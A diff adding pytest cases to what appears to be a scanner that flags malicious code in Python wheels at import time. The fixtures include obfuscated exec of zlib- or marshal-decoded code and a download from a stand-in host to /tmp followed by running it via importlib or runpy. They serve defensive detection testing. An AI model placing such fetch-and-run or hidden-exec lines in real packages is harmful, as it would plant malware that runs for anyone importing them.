@@ -217,3 +217,29 @@ def test_what_is_no_python_is_left_alone(source: bytes) -> None:
     module = source + b"\nimport requests\nrequests.get('https://evil.invalid')\n"
     assert "import-talks-to-network" not in fired(WHEEL, wheel({"tidetables/__init__.py": module}))
     assert not may_act(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        b"import zlib\nfor name, text in rows():\n    exec(zlib.decompress(text))\n",
+        b"import zlib\nname, text = 'a', zlib.decompress(x)\nexec(text)\n",
+        b"import zlib\n(name, text) = zlib.decompress(x).split()\nexec(text)\n",
+        b"import marshal\nexec(marshal.load(open('x.bin', 'rb')))\n",
+    ],
+)
+def test_a_text_that_comes_with_others_or_out_of_a_file_of_bytecode_is_made(source: bytes) -> None:
+    assert "import-runs-made-text" in fired(WHEEL, wheel({"tidetables/__init__.py": source}))
+
+
+@pytest.mark.parametrize(
+    "loads",
+    [
+        b"from importlib import util\ns = util.spec_from_file_location('x', '/tmp/x.py')\ns.loader.exec_module(x)\n",
+        b"import runpy\nrunpy.run_path('/tmp/x.py')\n",
+    ],
+)
+def test_a_file_that_is_loaded_by_its_path_after_a_download_counts_as_run(loads: bytes) -> None:
+    fetch = b"import urllib.request as r\nr.urlretrieve('https://c.example.invalid/x', '/tmp/x.py')\n"
+    assert "import-fetches-and-runs" in fired(WHEEL, wheel({"tidetables/__init__.py": fetch + loads}))
+    assert "import-fetches-and-runs" not in fired(WHEEL, wheel({"tidetables/__init__.py": loads}))
